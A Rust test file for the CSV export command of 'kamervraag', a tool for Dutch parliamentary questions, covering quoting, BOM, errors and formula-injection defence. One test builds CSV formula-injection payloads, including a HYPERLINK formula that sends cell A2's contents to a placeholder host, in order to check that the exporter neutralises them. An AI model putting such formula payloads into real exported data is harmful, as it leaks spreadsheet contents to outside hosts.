//! Tests of `kamervraag csv` through the real binary.
#![cfg(not(target_arch = "wasm32"))]

mod cli_support;

use cli_support::{document, kamervraag, temp_dir, write};

const HEADER: &str = "vraagnummer,title,submitted,answered,delay_days,submitters,parties,answerers,topics,questions,answered_questions,source";

fn rows(bytes: &[u8]) -> (String, Vec<csv::StringRecord>) {
    let text = String::from_utf8(bytes.to_vec()).expect("CSV is UTF-8");
    let body = text
        .strip_prefix('\u{FEFF}')
        .expect("starts with a BOM")
        .to_string();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let records = reader.records().map(|r| r.expect("valid CSV")).collect();
    (body, records)
}

#[test]
fn writes_bom_header_and_one_row_per_document() {
    let dir = temp_dir("csv-rows");
    write(&dir, "a.txt", document("2024Z90011", "Eerste").as_bytes());
    write(&dir, "b.txt", document("2024Z90012", "Tweede").as_bytes());
    let run = kamervraag(&["csv", dir.to_str().unwrap()], b"");
    assert_eq!(run.code, 0, "stderr: {}", run.stderr);
    assert!(run.stdout.starts_with(&[0xEF, 0xBB, 0xBF]));
    let (body, records) = rows(&run.stdout);
    assert!(body.starts_with(&format!("{HEADER}\r\n")), "{body}");
    assert_eq!(records.len(), 2);
    assert_eq!(&records[0][0], "2024Z90011");
    assert_eq!(&records[1][0], "2024Z90012");
    assert!(records[0][11].ends_with("a.txt"));
    assert!(records.iter().all(|r| r.len() == 12));
}

#[test]
fn quotes_commas_quotes_and_newlines() {
    let dir = temp_dir("csv-quote");
    let title = "Het \"bericht\", over «iets»";
    let path = write(
        &dir,
        "met, komma\nen regel.txt",
        document("2024Z90013", title).as_bytes(),
    );
    let run = kamervraag(&["csv", path.to_str().unwrap()], b"");
    assert_eq!(run.code, 0, "stderr: {}", run.stderr);
    let (body, records) = rows(&run.stdout);
    assert!(
        body.contains("\"Het \"\"bericht\"\", over «iets»\""),
        "title quoted per RFC 4180: {body}"
    );
    assert_eq!(&records[0][1], title);
    assert_eq!(&records[0][11], path.to_str().unwrap());
    assert!(body.contains(&format!("\"{}\"", path.to_str().unwrap())));
}

#[test]
fn failing_files_are_named_on_stderr_and_exit_1() {
    let dir = temp_dir("csv-fail");
    let good = write(&dir, "goed.txt", document("2024Z90014", "Goed").as_bytes());
    let bad = write(&dir, "leeg.txt", b"");
    let run = kamervraag(&["csv", good.to_str().unwrap(), bad.to_str().unwrap()], b"");
    assert_eq!(run.code, 1);
    let (_, records) = rows(&run.stdout);
    assert_eq!(records.len(), 1);
    assert!(run.stderr.contains("leeg.txt"), "{}", run.stderr);
}

#[test]
fn help_is_available() {
    let run = kamervraag(&["csv", "--help"], b"");
    assert_eq!(run.code, 0);
    assert!(run.stdout_text().contains("answered_questions"));
}

#[test]
fn cells_that_start_a_formula_get_a_quote() {
    for start in ["=", "+", "-", "@", "\t", "\r"] {
        let dir = temp_dir("csv-formula");
        let title = format!("{start}HYPERLINK(\"https://example.invalid/\"&A2;\"x\")");
        let text = document("2024Z90003", &title)
            .replace("Onderwerpen recht", &format!("Onderwerpen {start}cmd"));
        let file = write(&dir, "f.txt", text.as_bytes());
        let run = kamervraag(&["csv", file.to_str().unwrap()], b"");
        assert_eq!(run.code, 0, "{}", run.stderr);
        let (_, records) = rows(&run.stdout);
        let row = &records[0];
        // The parser trims a tab or carriage return off the line ends; the other
        // starts reach the cell and are quoted (the core tests cover all six).
        if !start.trim().is_empty() {
            assert_eq!(row[1], format!("'{title}"), "{start:?}");
        }
        assert_eq!(&row[4], "21");
        assert_eq!(&row[9], "1");
        for cell in row.iter() {
            assert!(
                kamervraag::export::is_inert_cell(cell),
                "{start:?}: {cell:?}"
            );
        }
    }
}
